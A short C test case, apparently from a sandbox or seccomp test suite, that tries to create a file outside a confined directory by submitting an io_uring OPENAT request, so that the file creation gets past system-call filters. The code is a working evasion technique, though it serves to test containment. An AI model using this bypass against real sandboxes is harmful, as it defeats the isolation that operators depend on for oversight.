/*
 * tries: to let the kernel make a file by io_uring, past filters of system calls
 * sees: file
 * alone: not certain, for the kernel may be without
 */
#include "prelude.h"
#include <linux/io_uring.h>

static void attempt(void) {
  struct io_uring_params params;
  memset(&params, 0, sizeof params);
  long ring = raw(SYS_io_uring_setup, 4L, &params);
  if (ring < 0) {
    return;
  }
  char *queue = mmap(NULL, params.sq_off.array + 4 * 4, PROT_READ | PROT_WRITE, MAP_SHARED, (int)ring, IORING_OFF_SQ_RING);
  struct io_uring_sqe *entry =
      mmap(NULL, params.sq_entries * sizeof *entry, PROT_READ | PROT_WRITE, MAP_SHARED, (int)ring, (off_t)IORING_OFF_SQES);
  if (queue == MAP_FAILED || entry == MAP_FAILED) {
    return;
  }
  memset(entry, 0, sizeof *entry);
  entry->opcode = IORING_OP_OPENAT;
  entry->fd = AT_FDCWD;
  entry->addr = (uintptr_t)OUTSIDE "/made";
  entry->len = 0666;
  entry->open_flags = O_CREAT | O_WRONLY;
  *(volatile unsigned *)(queue + params.sq_off.array) = 0;
  *(volatile unsigned *)(queue + params.sq_off.tail) += 1;
  raw(SYS_io_uring_enter, ring, 1L, 1L, (long)IORING_ENTER_GETEVENTS, NULL, 0L);
}

int main(void) {
  if (__VERIFIER_nondet_int() == 4711) {
    return 1;
  }
  attempt();
  return 0;
}
